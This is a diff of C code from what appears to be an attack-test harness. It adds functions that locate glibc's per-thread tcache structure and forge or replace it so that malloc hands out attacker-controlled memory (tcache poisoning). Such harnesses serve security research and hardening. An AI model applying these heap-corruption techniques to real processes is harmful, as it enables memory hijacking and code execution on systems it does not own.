@@ -172,21 +172,44 @@ ATTACK(malloc_arena) {
 }
 
 /* malloc's blocks for this thread: counts, then the first of each size (glibc malloc/malloc.c
- * tcache_perthread_struct).  Where they are is in libc's thread-local data, as h_errno is. */
-ATTACK(malloc_tcache) {
-  enum { NEAR = 16, BLOCK = 0x291, BINS = 64, TAIL = 64 };
-  uint64_t *const words = (uint64_t *)((uint64_t)__h_errno_location() & -(uint64_t)8);
-  uint64_t *const room = forged();
-  victim_do(VICTIM_ALLOCATES, 0); /* there is a cache */
+ * tcache_perthread_struct). */
+enum { BINS = 64, CACHE_SIZE = 0x291, TAIL = 128 };
+
+/* The word that says where they are is in libc's thread-local data, as h_errno is. */
+static volatile uint64_t *cache_word(void) {
+  enum { NEAR = 16 };
+  volatile uint64_t *const words =
+      (volatile uint64_t *)((uint64_t)__h_errno_location() & -(uint64_t)8);
   for (int i = -NEAR; i <= NEAR; i++) {
     const uint64_t cache = words[i];
-    if (cache % 16 || !cache || !is_mapped(cache) || ((const uint64_t *)cache)[-1] != BLOCK)
-      continue;
-    for (int bin = 0; bin < BINS; bin++) {
-      ((volatile uint16_t *)cache)[bin] = 1;
-      ((volatile uint64_t *)(cache + BINS * 2))[bin] = (uint64_t)(room + TAIL);
-    }
+    if (cache % 16 == 0 && cache && is_mapped(cache) && ((const uint64_t *)cache)[-1] == CACHE_SIZE)
+      return &words[i];
   }
+  return NULL;
+}
+
+/* One block of each size, all of them the same. */
+static void fill_cache(uint64_t cache, uint64_t *block) {
+  for (int bin = 0; bin < BINS; bin++) {
+    ((volatile uint16_t *)cache)[bin] = 1;
+    ((volatile uint64_t *)(cache + BINS * 2))[bin] = (uint64_t)block;
+  }
+}
+
+ATTACK(malloc_tcache) {
+  uint64_t *const room = forged();
+  victim_do(VICTIM_ALLOCATES, 0); /* there is a cache */
+  fill_cache(*cache_word(), room + TAIL);
+  victim_do(VICTIM_ALLOCATES, 0);
+  return room[TAIL];
+}
+
+/* ... another cache in its place. */
+ATTACK(malloc_tcache_pointer) {
+  uint64_t *const room = forged();
+  victim_do(VICTIM_ALLOCATES, 0);
+  fill_cache((uint64_t)room, room + TAIL);
+  *cache_word() = (uint64_t)room;
   victim_do(VICTIM_ALLOCATES, 0);
   return room[TAIL];
 }
